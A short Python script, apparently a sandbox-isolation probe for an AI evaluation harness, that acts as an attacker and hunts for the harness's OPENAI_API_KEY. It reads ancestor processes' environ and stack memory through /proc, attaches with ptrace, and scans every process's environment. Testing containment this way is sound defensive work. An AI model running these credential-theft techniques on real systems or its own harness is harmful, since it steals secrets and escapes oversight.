"""Attacker, as a command of a harness in a sandbox pod: steal the attempt's token from the processes above it.

    python3 token_thief.py : prints {"found": [[where, value], ...], "tried": {pid: {attack: result}},
                                     "self_environ": bool}
Knows no secret: it looks for `OPENAI_API_KEY=` where a harness keeps it. For each of its ancestors
(the harness, a shell wrapping it): read /proc/PID/environ, read the stack through /proc/PID/mem (the
environment strings sit at its top), attach with ptrace (PTRACE_SEIZE: no stop, released when this
exits); then every process's environ in /proc. `self_environ`: it could read its own (/proc works).
"""

import ctypes
import json
import os
import re

KEY = b"OPENAI_API_KEY="
PTRACE_SEIZE = 0x4206
found, tried = [], {}


def look(where, data):
    for match in re.finditer(re.escape(KEY) + rb"([^\x00\n]+)", data):
        found.append([where, match.group(1).decode(errors="replace")])


def ancestors():
    pids, pid = [], os.getppid()
    while pid > 0 and pid not in pids:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return pids


def read_environ(pid):
    with open(f"/proc/{pid}/environ", "rb") as handle:
        look(f"/proc/{pid}/environ", handle.read())
    return "read"


def read_stack(pid):
    with open(f"/proc/{pid}/mem", "rb") as mem:
        with open(f"/proc/{pid}/maps") as maps:
            stack = next(line for line in maps if line.rstrip().endswith("[stack]"))
        start, end = (int(part, 16) for part in stack.split()[0].split("-"))
        mem.seek(start)
        look(f"/proc/{pid}/mem", mem.read(end - start))
    return "read"


def seize(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "attached"


for pid in ancestors():
    results = tried[pid] = {}
    for name, attack in (("environ", read_environ), ("mem", read_stack), ("ptrace", seize)):
        try:
            results[name] = attack(pid)
        except (OSError, StopIteration) as exc:
            results[name] = f"denied: {exc}"
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        read_environ(pid)
    except OSError:
        pass
with open("/proc/self/environ", "rb") as own:
    self_environ = b"PATH=" in own.read()
print(json.dumps({"found": found, "tried": tried, "self_environ": self_environ}))
